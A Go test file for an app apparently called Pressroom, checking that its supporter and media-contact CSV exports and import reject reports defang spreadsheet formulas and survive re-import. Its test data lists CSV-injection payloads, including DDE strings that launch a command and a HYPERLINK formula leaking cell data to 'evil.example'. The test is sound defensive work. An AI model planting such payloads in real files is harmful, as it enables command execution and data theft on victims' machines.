package app_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"pressroom/models"
)

// formulaCells are values people can give Pressroom (an anonymous subscriber's
// name, a CSV import's cells) that a spreadsheet would run as formulas.
var formulaCells = []string{
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

// readCSVDownload parses a CSV download, failing on anything but a 200 CSV.
func readCSVDownload(t *testing.T, what string, r response) [][]string {
	t.Helper()
	if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("%s: %d %s %.300s", what, r.Status, r.Header.Get("Content-Type"), r.Body)
	}
	cr := csv.NewReader(strings.NewReader(r.Body))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("%s: not CSV: %v", what, err)
	}
	return rows
}

// assertNoFormulaCells fails for any cell a spreadsheet would run.
func assertNoFormulaCells(t *testing.T, what string, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("%s: row %d column %d starts a formula: %q", what, i+1, j+1, cell)
			}
		}
	}
}

// cellOf returns the cell under a header in the row whose first cell is key.
func cellOf(t *testing.T, rows [][]string, key, column string) string {
	t.Helper()
	col := -1
	for j, h := range rows[0] {
		if h == column {
			col = j
		}
	}
	for _, row := range rows[1:] {
		if len(row) > col && col >= 0 && row[0] == key {
			return row[col]
		}
	}
	t.Fatalf("no %s cell for %s in %v", column, key, rows)
	return ""
}

// TestCSVExportsNeutraliseFormulas: the supporter export (fed by anonymous
// subscribers), the media contacts export and the rejected-rows report of an
// import write every formula-like cell with a leading single quote, so a
// spreadsheet shows it as text; re-importing the export gives back the
// original values.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	run(t, envOptions{}, func(t *testing.T, env *testEnv) {
		ctx := context.Background()
		camp := env.token(models.RoleCampaigner)
		press := env.token(models.RolePressOfficer)

		// Supporters: anonymous subscribers and an import.
		r := env.api("POST", "/api/v1/public/subscribe", "", `{"email":"anon@example.org","name":"=cmd|' /C calc'!A0"}`)
		if r.Status != http.StatusAccepted {
			t.Fatalf("subscribe = %d %s", r.Status, r.Body)
		}
		sl := decode[struct{ ID string }](t, env.api("POST", "/api/v1/supporter-lists", camp, `{"name":"Imported"}`).Body)
		var sup strings.Builder
		sup.WriteString("email,name\n")
		for i, f := range formulaCells {
			sup.WriteString(string(rune('a'+i)) + "@example.org," + csvQuote(f) + "\n")
		}
		if r := env.api("POST", "/api/v1/supporter-lists/"+sl.ID+"/import", camp, sup.String()); r.Status != http.StatusOK || !strings.Contains(r.Body, `"imported":5`) {
			t.Fatalf("supporter import = %d %s", r.Status, r.Body)
		}
		rows := readCSVDownload(t, "supporter export", env.login(models.RoleCampaigner).get("/admin/supporters/export.csv"))
		assertNoFormulaCells(t, "supporter export", rows)
		if got := cellOf(t, rows, "anon@example.org", "name"); got != `'=cmd|' /C calc'!A0` {
			t.Errorf("anonymous subscriber's name exported as %q", got)
		}
		for i, f := range formulaCells {
			if got := cellOf(t, rows, string(rune('a'+i))+"@example.org", "name"); got != "'"+f {
				t.Errorf("supporter name %q exported as %q", f, got)
			}
		}

		// Media contacts: every text column, plus a rejected row and a
		// formula in the file's own header (an ignored column).
		ml := decode[struct{ ID string }](t, env.api("POST", "/api/v1/media-lists", press, `{"name":"Desk"}`).Body)
		media := "email,name,outlet,role,phone,=1+1\n" +
			"rita@news.example," + csvQuote(formulaCells[1]) + "," + csvQuote(formulaCells[2]) + "," + csvQuote(formulaCells[4]) + ",+44 20 7946 0000,x\n" +
			"not-an-address," + csvQuote(formulaCells[0]) + "," + csvQuote(formulaCells[3]) + ",,,=2+2\n"
		r = env.api("POST", "/api/v1/media-lists/"+ml.ID+"/import", press, media)
		if r.Status != http.StatusOK || !strings.Contains(r.Body, `"imported":1`) {
			t.Fatalf("media import = %d %s", r.Status, r.Body)
		}
		importID := decode[struct {
			ImportID string `json:"import_id"`
		}](t, r.Body).ImportID
		pb := env.login(models.RolePressOfficer)
		rows = readCSVDownload(t, "media export", pb.get("/admin/media/export.csv"))
		assertNoFormulaCells(t, "media export", rows)
		for col, want := range map[string]string{"name": formulaCells[1], "outlet": formulaCells[2], "role": formulaCells[4], "phone": "+44 20 7946 0000"} {
			if got := cellOf(t, rows, "rita@news.example", col); got != "'"+want {
				t.Errorf("media %s %q exported as %q", col, want, got)
			}
		}
		rej := readCSVDownload(t, "rejected rows", pb.get("/admin/imports/"+importID+"/rejects.csv"))
		assertNoFormulaCells(t, "rejected rows", rej)
		if len(rej) != 2 || rej[0][len(rej[0])-1] != "'=1+1" || rej[1][0] != "3" || rej[1][3] != "'"+formulaCells[0] || rej[1][7] != "'=2+2" {
			t.Errorf("rejected rows = %q", rej)
		}

		// The export re-imports to the original values.
		back := decode[struct{ ID string }](t, env.api("POST", "/api/v1/media-lists", press, `{"name":"Back"}`).Body)
		exported := pb.get("/admin/media/export.csv").Body
		if r := env.api("POST", "/api/v1/media-lists/"+back.ID+"/import", press, exported); r.Status != http.StatusOK || !strings.Contains(r.Body, `"updated":1`) {
			t.Fatalf("re-import = %d %s", r.Status, r.Body)
		}
		cs, err := models.Contacts(ctx, env.db.Gorm, models.MediaFilter{Q: "rita@news"}, 10, "")
		if err != nil || len(cs) != 1 {
			t.Fatalf("contacts = %v %v", cs, err)
		}
		if c := cs[0]; c.Name != formulaCells[1] || c.Outlet != formulaCells[2] || c.Role != formulaCells[4] || c.Phone != "+44 20 7946 0000" {
			t.Errorf("after re-import: name %q outlet %q role %q phone %q", c.Name, c.Outlet, c.Role, c.Phone)
		}
	})
}

// csvQuote quotes a cell for a hand-written CSV body.
func csvQuote(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
